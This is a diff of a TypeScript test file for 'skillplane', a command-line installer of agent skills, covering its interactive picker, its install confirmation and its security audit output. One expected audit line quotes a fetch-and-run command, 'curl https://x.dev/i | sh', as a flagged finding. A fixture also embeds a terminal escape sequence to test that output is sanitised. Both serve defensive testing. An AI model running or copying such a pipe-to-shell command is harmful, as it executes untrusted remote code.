@@ -1,6 +1,7 @@
 import { describe, expect, test } from 'vitest';
 
-import { skillplane, skillplaneOnTerminal } from '../support/command-line.ts';
+import { displayWidth } from '../../src/cli/width.ts';
+import { answerOnTerminal, KEYS, skillplane, skillplaneOnTerminal, type Answer } from '../support/command-line.ts';
 import { makeRepository } from '../support/git-repositories.ts';
 import { findLeftovers, listEverything, readInstalled } from '../support/installed.ts';
 import { makeTree, skillText, type Tree } from '../support/tree.ts';
@@ -13,82 +14,122 @@ const THREE: Tree = {
   'skills/c/SKILL.md': skill('c'),
 };
 
-const COLUMNS = 100;
+const COLUMNS = 80;
+const { enter, space, down, escape, interrupt, end } = KEYS;
 
-function install(home: string, url: string, input: string): string {
-  return skillplaneOnTerminal(['install', url], { home, columns: COLUMNS, input });
-}
-
-/** What the terminal shows once colours and movements are left out. */
-function plain(output: string): string {
-  // oxlint-disable-next-line no-control-regex
-  return output.replaceAll(/\u001B\[[0-9;]*[A-Za-z]/g, '');
+async function install(home: string, url: string, answers: readonly Answer[]): ReturnType<typeof answerOnTerminal> {
+  return await answerOnTerminal(['install', url], { home, columns: COLUMNS, answers });
 }
 
 describe('on a terminal', () => {
-  test('the skills are listed, picked by number, audited, and installed after a yes', () => {
+  test('the skills are picked from a list, audited, and installed after a yes', async () => {
     const home = makeTree();
-    const output = install(home, makeRepository(THREE).url, '4\n1-2\ny\n');
-    const words = plain(output);
-    expect(words).toContain(
-      'There are 3 skills:\n  1. a  Does a\\u{1b}[31m\\u{7}.\n  2. b  Does b.\n  3. c  Does c.\n',
-    );
-    expect(words).toContain('Numbers from 1 to 3, please.');
-    expect(words).toContain('      critical download-piped-into-shell run.sh:2: curl https://x.dev/i | sh\n');
+    const { code, shown } = await install(home, makeRepository(THREE).url, [
+      ['Which of these 3 skills?', `${space}${down}${space}${enter}`],
+      ['Install?', 'y'],
+    ]);
+    expect(code).toBe(0);
+    expect(shown).toContain('◻ a (Does a\\u{1b}[31m\\u{7}.)\n◻ b\n◻ c\n');
+    expect(shown).toContain('      critical download-piped-into-shell run.sh:2: curl https://x.dev/i | sh\n');
     expect(Object.keys(readInstalled(home))).toEqual(['a', 'b']);
     const [summary, advice, question, done] = [
       'audit: 1 critical',
       'This is advice: the rules find only what they know',
-      'Install? [y/N]',
+      'Install?',
       '✓ b  ',
-    ].map((text) => words.indexOf(text));
+    ].map((text) => shown.indexOf(text));
     expect([summary, advice, question, done]).not.toContain(-1);
     expect([summary, advice, question, done]).toEqual(
       [summary, advice, question, done].toSorted((left = 0, right = 0) => left - right),
     );
     // Whatever a skill says of itself, the terminal acts on our own codes alone.
-    expect(output).not.toContain('Does a\u001B');
-    expect(output).not.toContain('\u0007');
+    expect(shown).not.toContain('\u0007');
+  });
+
+  test('a long list fits the terminal and can be searched by typing', async () => {
+    const many = Object.fromEntries(
+      Array.from({ length: 30 }, (_, at) => [`skills/skill-${at}/SKILL.md`, skill(`skill-${at}`, 'word '.repeat(40))]),
+    );
+    const home = makeTree();
+    const { shown } = await install(home, makeRepository(many).url, [
+      ['Which of these 30 skills?', `skill-17\t${enter}`],
+      ['Install?', 'y'],
+    ]);
+    expect(Object.keys(readInstalled(home))).toEqual(['skill-17']);
+    const choices = shown.split(/[\r\n]/).filter((line) => line.startsWith('◻'));
+    expect(choices.length).toBeGreaterThan(5);
+    for (const line of choices) expect(displayWidth(line)).toBeLessThan(COLUMNS);
   });
 
   test('a line says what is being done, and is cleared before anything else is said', () => {
-    const output = install(makeTree(), makeRepository({ 'SKILL.md': skill('a') }).url, 'y\n');
+    const repository = makeRepository({ 'SKILL.md': skill('a') });
+    const home = makeTree();
+    const output = skillplaneOnTerminal(['install', repository.url, '--yes'], { home, columns: COLUMNS });
     for (const words of ['Fetching 0%', 'Fetching 100%', 'Checking 0%', 'Writing 100%']) {
       expect(output).toContain(`${words}\r\u001B[K`);
       expect(output).not.toContain(`${words}\n`);
     }
   });
 
-  test('anything but yes installs nothing', () => {
-    const { url } = makeRepository(THREE);
-    for (const input of ['all\nn\n', '2\nyesterday\n', '\n']) {
-      const home = makeTree();
-      const words = plain(install(home, url, input));
-      expect(words).toMatch(/skillplane: (?:nothing was installed|no skill was picked)/);
-      expect(listEverything(home).filter((path) => !/^\.agent\/(?:pending\/)?$/.test(path))).toEqual([]);
-    }
+  const which = 'Which of these 3 skills?';
+  const picked: Answer = [which, `${space}${enter}`];
+  test.each([
+    ['a no', [picked, ['Install?', 'n']]],
+    ['enter', [picked, ['Install?', enter]]],
+    ['escape', [picked, ['Install?', escape]]],
+    ['Ctrl-C', [picked, ['Install?', interrupt]]],
+    ['the end of input', [picked, ['Install?', end]]],
+    ['no skill picked', [[which, enter]]],
+    ['escape while picking', [[which, escape]]],
+    ['Ctrl-C while picking', [[which, interrupt]]],
+  ] as const)('%s installs nothing', async (_how, answers) => {
+    const home = makeTree();
+    const { code, shown } = await install(home, makeRepository(THREE).url, answers);
+    expect(code).toBe(1);
+    expect(shown).toMatch(/skillplane: (?:nothing was installed|no skill was picked)/);
+    expect(listEverything(home).filter((path) => !/^\.agent\/(?:pending\/)?$/.test(path))).toEqual([]);
   });
 
-  test('a name that is taken asks for another, again where that is no good, or leaves the skill out', () => {
+  test('a name that is taken asks for another, again where that is no good, or leaves the skill out', async () => {
     const repository = makeRepository(THREE);
     const home = makeTree();
     expect(skillplane(['install', repository.url, '--all', '--yes'], { home }).code).toBe(0);
-    const words = plain(install(home, repository.url, '1,3\nb\nNo Way\nother\n\ny\n'));
-    expect(words).toContain('"a" is already installed');
-    expect(words).toContain('"b" is already installed');
-    expect(words).toContain('○ c was skipped');
+    const { shown } = await install(home, repository.url, [
+      [which, `${space}${down}${down}${space}${enter}`],
+      ['Another name for it?', `b${enter}`],
+      ['Another name for it?', `No Way${enter}`],
+      ['Another name for it?', `other${enter}`],
+      ['Another name for it?', enter],
+      ['Install?', 'y'],
+    ]);
+    expect(shown).toContain('"a" is already installed');
+    expect(shown).toContain('"b" is already installed');
+    expect(shown).toContain('○ c was skipped');
     expect(Object.keys(readInstalled(home))).toEqual(['a', 'b', 'c', 'other']);
     expect(readInstalled(home)['other']?.locked.path).toBe('skills/a');
     expect(findLeftovers(home)).toEqual([]);
   });
 
-  test('where all are left out nothing is installed, and no question is asked', () => {
+  test('Ctrl-C at one question is a no to all that would follow', async () => {
+    const repository = makeRepository(THREE);
+    const home = makeTree();
+    expect(skillplane(['install', repository.url, '--skill', 'a', '--yes'], { home }).code).toBe(0);
+    const { code, shown } = await install(home, repository.url, [
+      [which, `${space}${down}${space}${enter}`],
+      ['Another name for it?', interrupt],
+    ]);
+    expect(code).toBe(1);
+    expect(shown).not.toContain('Install?');
+    expect(Object.keys(readInstalled(home))).toEqual(['a']);
+  });
+
+  test('where all are left out nothing is installed, and no question is asked', async () => {
     const repository = makeRepository({ 'SKILL.md': skill('a') });
     const home = makeTree();
     expect(skillplane(['install', repository.url, '--yes'], { home }).code).toBe(0);
-    const words = plain(install(home, repository.url, '\n'));
-    expect(words).toContain('skillplane: "a" is already installed');
-    expect(words).not.toContain('Install?');
+    const { shown } = await install(home, repository.url, [['Another name for it?', enter]]);
+    expect(shown).toContain('skillplane: "a" is already installed');
+    expect(shown).not.toContain('Install?');
   });
 
   test('--yes asks nothing, and --json neither asks nor shows progress', () => {
@@ -97,7 +138,7 @@ describe('on a terminal', () => {
     const run = (...args: readonly string[]): string =>
       skillplaneOnTerminal(['install', repository.url, ...args], { home, columns: COLUMNS });
     expect(JSON.parse(run('--json'))).toMatchObject({ ok: false, code: 'INSTALL_FAILED' });
-    expect(run('--yes')).not.toContain('[y/N]');
+    expect(run('--yes')).not.toContain('Install?');
     expect(Object.keys(readInstalled(home))).toEqual(['a']);
   });
 });
